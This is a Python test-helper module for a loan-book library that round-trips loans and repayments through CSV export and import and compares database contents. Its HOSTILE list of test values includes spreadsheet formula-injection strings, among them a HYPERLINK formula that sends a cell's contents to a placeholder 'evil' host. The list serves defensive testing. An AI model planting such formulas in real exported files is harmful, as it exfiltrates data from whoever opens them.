"""Files of rows that go into a book and come out of it, and what a database holds before and after."""

import csv
import io
from collections.abc import Mapping
from datetime import UTC, date, datetime
from typing import Any

from sqlalchemy import create_engine, inspect, text

from loan_core import Book, open_book
from tests.lending import FixedClock

NOW = datetime(2026, 1, 15, 12, tzinfo=UTC)
TODAY = NOW.date()
# What belongs to the book that a row stands in, not to the loan: another book gives its own.
OF_THE_BOOK = ("id", "loan_id", "revision", "recorded_by", "created_at")

METHODS = ("annuity", "equal_principal", "interest_only", "flat")
FREQUENCIES = ("monthly", "every_two_weeks", "weekly", "quarterly")

HOSTILE = (
    "=1+1",
    "+49 151",
    "-12",
    "@SUM(A1)",
    '=HYPERLINK("http://evil/?"&A1,"pay")',
    "'=x",
    "''=x",
    "'\t=x",
    "'plain",
    "'",
    "it's",
    'said "yes"',
    '"',
    "a,b;c\td",
    "1,000.00",
    "00123",
    "NA",
    "null",
    "1e5",
    "\ufeffmarked",
    "مرحبا \u200f(ب)",
    "🏦 ½ 日本",
    "a\u2028b\x85c",
)


def open_at(url: str, **stated: Any) -> Book:
    """The book of this database, on ``TODAY``."""
    return open_book(FixedClock(at=NOW, database_uri=url, timezone=UTC, redis_url="off", **stated))


def contents(url: str) -> dict[str, list[Any]]:
    """Every row of every table, the revision among them: two that are equal have nothing written between them."""
    engine = create_engine(url)
    with engine.connect() as connection:
        tables = inspect(connection).get_table_names()
        rows = {table: connection.execute(text(f'SELECT * FROM "{table}"')).all() for table in tables}
    engine.dispose()
    return {table: sorted(map(repr, found)) for table, found in rows.items()}


def csv_file(*rows: Mapping[str, str]) -> io.BytesIO:
    """A file with a header of every column that a row names; what a row does not name is empty."""
    columns = list(dict.fromkeys(name for row in rows for name in row))
    lines = io.StringIO()
    writer = csv.DictWriter(lines, columns, restval="", lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return io.BytesIO(lines.getvalue().encode())


def read(exported: bytes) -> list[dict[str, str]]:
    """The rows of an export, as text."""
    return list(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"), newline=""), strict=True))


def without(columns: tuple[str, ...], exported: bytes) -> bytes:
    """The same file, less these columns."""
    table = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline=""), strict=True))
    kept = [at for at, name in enumerate(table[0]) if name not in columns]
    lines = io.StringIO()
    csv.writer(lines, lineterminator="\r\n").writerows([row[at] for at in kept] for row in table)
    return lines.getvalue().encode("utf-8-sig")


def exported(book: Book, what: str, as_of: date = TODAY, loan_id: int | None = None) -> bytes:
    return b"".join(getattr(book, f"export_{what}")(as_of, loan_id))


def brought_over(book: Book, url: str) -> Book:
    """Another book that holds what the exports of this one hold."""
    other = open_at(url)
    for what in ("loans", "repayments"):
        file = exported(book, what)
        if file.count(b"\r\n") > 1:
            getattr(other, f"import_{what}")(io.BytesIO(file))
    return other


def assert_the_same_book(book: Book, other: Book, *whats: str) -> None:
    for what in whats or ("loans", "repayments", "schedule"):
        assert without(OF_THE_BOOK, exported(other, what)) == without(OF_THE_BOOK, exported(book, what))
